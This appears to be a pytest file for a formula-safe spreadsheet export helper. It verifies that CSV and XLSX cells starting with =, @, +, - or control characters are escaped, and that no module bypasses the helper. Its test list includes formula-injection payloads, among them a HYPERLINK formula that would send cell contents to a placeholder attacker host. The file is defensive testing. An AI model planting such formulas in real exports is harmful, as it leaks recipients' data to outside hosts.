"""The one formula-safe export helper (core.exports), and a scan proving no module bypasses it."""

import csv
import datetime as dt
import io
import re
from decimal import Decimal
from pathlib import Path

import openpyxl
import pytest

from core.exports import XlsxBook, safe_cell, write_csv, write_xlsx

EVIL = [
    '=HYPERLINK("http://evil.example/?x="&A2,"x")',
    "@SUM(1+1)",
    "+1+2",
    "-2+3",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("text", EVIL)
def test_formula_like_text_gets_an_apostrophe(text):
    assert safe_cell(text) == "'" + text


@pytest.mark.parametrize(
    "value", [-12.5, -3, Decimal("-1711.00"), 0, dt.date(2026, 12, 1), None, "张三", "6228 4800"]
)
def test_numbers_dates_and_plain_text_are_untouched(value):
    assert safe_cell(value) == value


def test_xlsx_cells_are_text_not_formulas_and_negative_numbers_stay_numbers():
    body = write_xlsx([[EVIL[0], EVIL[1], Decimal("-12.50"), -3]], headers=["a", "b", "c", "d"])
    ws = openpyxl.load_workbook(io.BytesIO(body)).active
    row = next(iter(ws.iter_rows(min_row=2)))
    for cell in row[:2]:
        assert cell.data_type != "f" and cell.value.startswith("'")
    assert row[2].data_type == "n" and row[2].value == -12.5
    assert row[3].value == -3


def test_styled_workbook_sanitises_appended_rows():
    book = XlsxBook()
    sheet = book.sheet("报表")
    sheet.append(["=1+1", -5])
    ws = openpyxl.load_workbook(io.BytesIO(book.to_bytes())).active
    assert ws.title == "报表"
    assert ws["A1"].data_type != "f" and ws["A1"].value == "'=1+1" and ws["B1"].value == -5


def test_csv_has_bom_escapes_text_and_keeps_negative_numbers():
    body = write_csv([[EVIL[0], EVIL[1], Decimal("-12.50")]], headers=["a", "b", "c"])
    assert body.startswith("\ufeff".encode())
    rows = list(csv.reader(io.StringIO(body.decode("utf-8-sig"))))
    assert rows[1] == ["'" + EVIL[0], "'" + EVIL[1], "-12.50"]


# -- completeness: no spreadsheet is written anywhere else ---------------------------------------

ROOT = Path(__file__).resolve().parents[2]
WRITERS = re.compile(
    r"openpyxl\.Workbook|from openpyxl import[^\n]*\bWorkbook\b|\bWorkbook\(|csv\.writer|"
    r"csv\.DictWriter|xlsxwriter|\.export_data\(|\.export\((?:\"|')(?:xlsx|csv)|"
    r"content_type=[^\n]*(?:spreadsheet|text/csv)|(?:\"|')text/csv|spreadsheetml"
)
HELPER = ROOT / "core" / "exports.py"


def _sources():
    skip = {".venv", "tests", "migrations", "node_modules", "static", "bench"}
    for path in ROOT.rglob("*.py"):
        parts = set(path.relative_to(ROOT).parts)
        if parts & skip or path == HELPER:
            continue
        yield path


def test_every_spreadsheet_is_written_by_core_exports():
    offenders = []
    for path in _sources():
        for n, line in enumerate(path.read_text(encoding="utf-8").splitlines(), start=1):
            if WRITERS.search(line):
                offenders.append(f"{path.relative_to(ROOT)}:{n}: {line.strip()}")
    assert offenders == [], "write spreadsheets through core.exports:\n" + "\n".join(offenders)


def test_the_scan_would_catch_a_new_export():
    assert WRITERS.search("wb = openpyxl.Workbook()")
    assert WRITERS.search("w = csv.writer(out)")
    assert WRITERS.search('HttpResponse(body, content_type="text/csv")')
    assert WRITERS.search("body = data.export('xlsx')")
